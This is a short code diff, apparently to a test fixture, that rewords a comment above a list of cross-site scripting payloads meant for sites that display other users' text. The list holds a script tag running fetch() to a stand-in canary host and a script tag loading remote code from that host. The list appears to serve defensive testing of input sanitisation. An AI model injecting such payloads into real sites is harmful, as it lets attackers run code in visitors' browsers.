@@ -1,6 +1,6 @@
 const RUN = 'fetch(`https://canary.example`)'
 
-/** What is tried on sites that show other people's texts. */
+/** Texts that attackers try on sites that show other people's texts. */
 export const ATTACKS = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//canary.example/x.js></SCRIPT>`,
